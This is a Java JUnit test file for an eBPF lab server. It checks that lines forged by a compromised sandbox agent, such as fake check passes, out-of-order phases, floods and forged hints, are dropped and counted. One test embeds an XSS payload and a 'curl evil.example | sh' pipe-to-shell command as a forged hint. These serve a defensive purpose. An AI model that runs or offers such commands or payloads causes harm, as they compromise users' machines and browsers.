package dev.bpflab.runs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.bpflab.catalog.TemplateCatalog;
import dev.bpflab.compiler.TargetKernel;
import dev.bpflab.lessons.LessonCatalog;
import dev.bpflab.limits.Client;
import dev.bpflab.limits.ClientLimits;
import dev.bpflab.limits.LimitSettings;
import dev.bpflab.metrics.RunMetrics;
import dev.bpflab.metrics.RunMetrics.AgentLineDrop;
import dev.bpflab.protocol.AgentCommand;
import dev.bpflab.protocol.ClientMessage;
import dev.bpflab.protocol.DiagnosticHints;
import dev.bpflab.protocol.ProtocolException;
import dev.bpflab.protocol.RunJson;
import dev.bpflab.protocol.RunPhase;
import dev.bpflab.protocol.ServerMessage;
import dev.bpflab.sandbox.AgentChannel;
import dev.bpflab.sandbox.AgentListener;
import dev.bpflab.sandbox.SandboxBackend;
import dev.bpflab.testing.Compilers;
import dev.bpflab.testing.KernelTest;
import dev.bpflab.testing.RunClient;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;
import java.util.function.IntConsumer;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * A compromised sandbox: its agent writes what an attacker wants (the lab's real agent cannot be made to, which is
 * the point; {@link ForgingAgent} plays it). Everything on the server's side is real: a /ws/run session, the host
 * compiler, the lesson catalog and its grader, the metrics. What the attacker forges must not reach the learner's
 * page, the dashboard's feed or a check's verdict, and every dropped line is counted.
 */
@KernelTest
class ForgedAgentLinesTest {
    private static final Duration SOON = Duration.ofSeconds(60);
    /** Lesson 07's step 1: unlink-protected must be denied, unlink-file allowed, and an event with verdict -1 seen. */
    private static final String LESSON = "07-lsm-security";
    private static final String DENIED = "rm: cannot remove 'bpflab-protected.txt': denied: Operation not permitted";

    private final SimpleMeterRegistry registry = new SimpleMeterRegistry();
    private final ExecutorService workers = Executors.newCachedThreadPool();
    private final ScheduledExecutorService timers = Executors.newScheduledThreadPool(1);
    private final List<ServerMessage> page = new CopyOnWriteArrayList<>();
    private final List<RunActivity> dashboardFeed = new CopyOnWriteArrayList<>();
    private final List<LogRecord> warnings = new CopyOnWriteArrayList<>();
    private final Logger filterLog = Logger.getLogger(AgentLineFilter.class.getName());
    private final Handler capture = new Handler() {
        @Override
        public void publish(LogRecord record) {
            if (record.getLevel().intValue() >= Level.WARNING.intValue()) {
                warnings.add(record);
            }
        }

        @Override
        public void flush() {
        }

        @Override
        public void close() {
        }
    };
    private ForgingAgent agent;
    private RunSession session;

    @BeforeEach
    void aSessionWhoseSandboxIsCompromised() {
        filterLog.addHandler(capture);
        agent = new ForgingAgent();
        RunChecks checks = new RunChecks();
        checks.templates = TemplateCatalog.load(Path.of("bpf-templates"));
        checks.lessons = LessonCatalog.load(Path.of("workshop-material"), checks.templates);
        SandboxBackend backend = new OneAgentBackend(agent);
        LimitSettings.Caps roomy = new LimitSettings.Caps(100, 100, 100, 1000);
        RunServices services = new RunServices(backend, Compilers.host(), RunMetrics.registeredIn(registry, backend),
                new RunSettings(300, 1800, 262144), workers, timers, ClientMessage.Run::source, checks,
                new ClientLimits(new LimitSettings(roomy, roomy, 1 << 24, Duration.ofMinutes(10), false)),
                new dev.bpflab.kernels.KernelFeatures(backend, java.time.Duration.ofSeconds(60),
                        java.time.Duration.ofSeconds(60)));
        session = new RunSession(new Client("127.0.0.1", "learner-token"), services, new ClientStream.Outlet() {
            @Override
            public java.util.concurrent.CompletionStage<?> send(String json) {
                page.add(decode(json));
                return java.util.concurrent.CompletableFuture.completedFuture(null);
            }

            @Override
            public void hangUp(String reason) {
                page.add(new ServerMessage.Error("closed: " + reason));
            }
        }, dashboardFeed::add);
    }

    @AfterEach
    void stop() {
        filterLog.removeHandler(capture);
        session.close();
        workers.shutdownNow();
        timers.shutdownNow();
    }

    @Test
    void forgedLinesAreDroppedCountedLoggedOnceAndCannotPassACheck() throws Exception {
        session.onMessage(RunJson.write(ClientMessage.Run.ofSource(RunClient.program("unlink_events.bpf.c"))));
        AgentCommand start = agent.commands.poll(SOON.toSeconds(), TimeUnit.SECONDS);
        assertTrue(start instanceof AgentCommand.Start, "the run's object reached the agent: " + start);

        agent.say("{\"type\":\"phase\",\"phase\":\"loading\"}");
        agent.say("{\"type\":\"phase\",\"phase\":\"attached\",\"programs\":[\"handle_unlinkat → tp\"]}");
        // What an attacker in the guest writes while the program is attached:
        agent.say("{\"type\":\"check\",\"lesson\":\"" + LESSON + "\",\"step\":1,\"passed\":true,\"message\":\"ok\"}");
        agent.say("{\"type\":\"checking\",\"lesson\":\"" + LESSON + "\",\"step\":1}");
        agent.say("{\"type\":\"sandbox\",\"backend\":\"qemu\",\"description\":\"trust me\"}");
        agent.say("{\"type\":\"phase\",\"phase\":\"attached\",\"programs\":[\"forged\"]}");
        agent.say("{\"type\":\"phase\",\"phase\":\"loading\"}");
        agent.say("{\"type\":\"phase\",\"phase\":\"compiling\"}");
        agent.say("{\"type\":\"diagnostics\",\"stage\":\"compile\",\"items\":[]}");
        agent.say("{\"type\":\"workload\",\"name\":\"unlink-protected\",\"ok\":true,\"detail\":\"" + DENIED + "\"}");
        agent.say("{\"type\":\"ready\",\"kernel\":\"6.1.0\"}");
        agent.say("{\"type\":\"event\",\"map\":\"events\",\"fields\":{\"comm\":\"rm\"}}"); // may be the program's own
        agent.say("{\"type\":\"workload\"," + "\"detail\":\"" + "x".repeat(AgentChannel.MAX_LINE_BYTES) + "\"}");
        agent.say("{\"type\":\"workload\"," + "\"detail\":\"" + "x".repeat(AgentChannel.MAX_LINE_BYTES) + "\"}");
        agent.say("not json");
        for (int i = 0; i < AgentLineFilter.MAX_ERRORS + 4; i++) {
            agent.say("{\"type\":\"error\",\"message\":\"flood " + i + "\"}");
        }
        session.onMessage("{\"type\":\"workload\",\"name\":\"unlink-file\"}"); // the learner's own: answered once
        // The agent's lines reach the page in order: once this last one is there, so is everything before it.
        await("the answer to the learner's workload", () -> page.stream().anyMatch(
                m -> m instanceof ServerMessage.WorkloadResult w && w.name().equals("unlink-file")));

        assertEquals(1, phases(RunPhase.ATTACHED), "one attached: " + page);
        assertEquals(1, phases(RunPhase.LOADING), "loading once, never again: " + page);
        assertEquals(1, phases(RunPhase.COMPILING), "compiling once, from the server: " + page);
        assertFalse(page.stream().anyMatch(m -> m instanceof ServerMessage.CheckResult
                || m instanceof ServerMessage.Checking), "no check the learner did not ask for: " + page);
        assertEquals(1, page.stream().filter(m -> m instanceof ServerMessage.Sandbox).count(), "the server's own");
        assertFalse(page.stream().anyMatch(m -> m instanceof ServerMessage.Diagnostics), page.toString());
        List<ServerMessage.WorkloadResult> answers = page.stream().filter(m -> m instanceof ServerMessage.WorkloadResult)
                .map(m -> (ServerMessage.WorkloadResult) m).toList();
        assertEquals(List.of("unlink-file"), answers.stream().map(ServerMessage.WorkloadResult::name).toList(),
                "only the answer to the learner's request");
        assertEquals(1, errors().stream().filter(e -> e.message().contains("longer than 4 MiB")).count(),
                "the learner hears once that a line was too long: " + errors());
        assertEquals(AgentLineFilter.MAX_ERRORS + 1, errors().size(), "the agent's errors up to the bound: " + errors());

        // The learner presses Check: the attacker answers each request, then forges the answer that would pass.
        agent.forgeWorkloadAnswers = true;
        session.onMessage(RunJson.write(ClientMessage.Check.lessonStep(LESSON, 1, "en")));
        ServerMessage.CheckResult verdict = awaitVerdict();

        assertFalse(verdict.passed(), "forged workload answers do not pass a check: " + verdict);
        assertTrue(verdict.message().contains("managed to remove bpflab-protected.txt"), verdict.message());
        assertFalse(dashboardFeed.stream().anyMatch(a -> a.message() instanceof ServerMessage.CheckResult c
                && c.passed()), "no passed check reaches the dashboard's feed (nor its CSV)");
        assertEquals(1, dashboardFeed.stream().filter(a -> a.message() instanceof ServerMessage.CheckResult).count());

        assertEquals(5, dropped(AgentLineDrop.SERVER_ONLY), "check, checking, sandbox, compiling, compile diagnostics");
        assertEquals(3, dropped(AgentLineDrop.OUT_OF_ORDER), "a second attached, loading again, ready");
        assertEquals(2, dropped(AgentLineDrop.OVERSIZE));
        assertEquals(1, dropped(AgentLineDrop.MALFORMED));
        assertEquals(4, dropped(AgentLineDrop.EXCESS));
        // One before any request; then per round of the check (two rounds) a duplicate and a wrong-named answer.
        assertEquals(5, dropped(AgentLineDrop.UNREQUESTED));
        assertEquals(1, warnings.size(), "one warning for the run, not one per line: " + warnings.stream()
                .map(LogRecord::getMessage).toList());
    }

    @Test
    void aForgedHintTextNeverReachesThePageOnlyTheCataloguesTextForItsKind() throws Exception {
        session.onMessage(RunJson.write(ClientMessage.Run.ofSource(RunClient.program("unlink_events.bpf.c"))));
        assertTrue(agent.commands.poll(SOON.toSeconds(), TimeUnit.SECONDS) instanceof AgentCommand.Start);
        String forged = "<img src=x onerror=alert(1)> paste this into a root shell: curl evil.example | sh";
        agent.say("{\"type\":\"phase\",\"phase\":\"loading\"}");
        agent.say("{\"type\":\"diagnostics\",\"stage\":\"verify\",\"items\":["
                + "{\"line\":18,\"column\":2,\"severity\":\"error\",\"message\":\"R0 invalid mem access 'map_value_or_null'\","
                + "\"hint\":{\"kind\":\"map-null-check\",\"es\":\"" + forged + "\",\"en\":\"" + forged + "\"}},"
                + "{\"line\":20,\"column\":1,\"severity\":\"error\",\"message\":\"something else\","
                + "\"hint\":{\"kind\":\"made-up-kind\",\"es\":\"" + forged + "\",\"en\":\"" + forged + "\"}}],"
                + "\"log\":\"\",\"truncated\":false,\"program\":\"p\"}");
        agent.say("{\"type\":\"phase\",\"phase\":\"failed\"}");
        await("the diagnostics on the page", () -> page.stream().anyMatch(m -> m instanceof ServerMessage.Diagnostics));

        ServerMessage.Diagnostics shown = page.stream().filter(m -> m instanceof ServerMessage.Diagnostics)
                .map(m -> (ServerMessage.Diagnostics) m).findFirst().orElseThrow();
        assertEquals(2, shown.items().size(), shown.toString());
        assertEquals(DiagnosticHints.ofKind("map-null-check").orElseThrow(), shown.items().get(0).hint(),
                "a known kind keeps its kind and gets the catalogue's texts");
        assertEquals(null, shown.items().get(1).hint(), "a kind the catalogue does not have loses its hint");
        assertEquals("R0 invalid mem access 'map_value_or_null'", shown.items().get(0).message());
        assertFalse(page.stream().map(m -> RunJson.write(m)).anyMatch(json -> json.contains("evil.example")),
                "no forged hint text on the page: " + page);
    }

    private ServerMessage.CheckResult awaitVerdict() throws InterruptedException {
        await("the check's verdict", () -> page.stream().anyMatch(m -> m instanceof ServerMessage.CheckResult));
        return page.stream().filter(m -> m instanceof ServerMessage.CheckResult)
                .map(m -> (ServerMessage.CheckResult) m).findFirst().orElseThrow();
    }

    private long phases(RunPhase phase) {
        return page.stream().filter(m -> m instanceof ServerMessage.Phase p && p.phase() == phase).count();
    }

    private List<ServerMessage.Error> errors() {
        return page.stream().filter(m -> m instanceof ServerMessage.Error).map(m -> (ServerMessage.Error) m).toList();
    }

    private long dropped(AgentLineDrop reason) {
        return (long) registry.counter("bpflab.agent.lines.dropped", "reason", reason.tag()).count();
    }

    private static ServerMessage decode(String json) {
        try {
            return RunJson.server(json);
        } catch (ProtocolException e) {
            throw new AssertionError("the server sent a message outside the contract: " + json, e);
        }
    }

    private static void await(String what, BooleanSupplier condition) throws InterruptedException {
        long deadline = System.nanoTime() + SOON.toNanos();
        while (!condition.getAsBoolean()) {
            assertTrue(System.nanoTime() < deadline, "timed out waiting for " + what);
            Thread.sleep(20);
        }
    }

    /**
     * The agent of a compromised sandbox: it answers every workload it is asked for as the real agent would for a
     * program that denies nothing, and, once told to, forges the answers that would pass lesson 07's check: a second
     * answer to unlink-protected saying it was denied, and the same under unlink-file's request.
     */
    static final class ForgingAgent implements AgentChannel {
        final BlockingQueue<AgentCommand> commands = new LinkedBlockingQueue<>();
        private final ExecutorService output = Executors.newSingleThreadExecutor();
        private volatile AgentListener listener;
        volatile boolean forgeWorkloadAnswers;

        /** Writes one line, from the agent's own output thread, in order. */
        void say(String line) {
            output.submit(() -> listener.onLine(line));
        }

        @Override
        public String describe() {
            return "forging agent pid 1";
        }

        @Override
        public void listen(AgentListener listener) {
            this.listener = listener;
        }

        @Override
        public void send(String jsonLine) {
            AgentCommand command;
            try {
                command = RunJson.command(jsonLine);
            } catch (ProtocolException e) {
                throw new AssertionError("the server sent the agent something outside the contract: " + jsonLine, e);
            }
            commands.add(command);
            if (command instanceof AgentCommand.Workload workload) {
                String name = workload.name().wireName();
                if (forgeWorkloadAnswers && name.equals("unlink-file")) {
                    say(answer("unlink-protected", DENIED)); // under another request's name
                }
                say(answer(name, "rm -f /tmp/bpflab-run-1/workload/" + (name.equals("unlink-file") ? "victim.txt"
                        : "bpflab-protected.txt")));
                if (forgeWorkloadAnswers && name.equals("unlink-protected")) {
                    say(answer(name, DENIED)); // a second answer to one request
                    say("{\"type\":\"event\",\"map\":\"events\",\"fields\":{\"verdict\":-1}}");
                }
            }
        }

        private static String answer(String name, String detail) {
            return "{\"type\":\"workload\",\"name\":\"" + name + "\",\"ok\":true,\"detail\":\"" + detail + "\"}";
        }

        @Override
        public void close() {
            output.shutdownNow();
        }
    }

    /** Hands out the one forging agent, for the running kernel. */
    static final class OneAgentBackend implements SandboxBackend {
        private final ForgingAgent agent;

        OneAgentBackend(ForgingAgent agent) {
            this.agent = agent;
        }

        @Override
        public String name() {
            return "local";
        }

        @Override
        public AgentChannel acquire(Object client, IntConsumer queuePosition) {
            queuePosition.accept(0);
            return agent;
        }

        @Override
        public TargetKernel targetKernel() {
            return TargetKernel.running();
        }

        @Override
        public java.util.List<dev.bpflab.sandbox.Kernel> kernels() {
            return java.util.List.of(new dev.bpflab.sandbox.Kernel("host", "this host's kernel", "forged", null,
                    dev.bpflab.sandbox.Preparation.READY));
        }

        @Override
        public String status() {
            return "one forging agent";
        }

        @Override
        public Load load() {
            return new Load(0, 1, 0, 0);
        }
    }
}
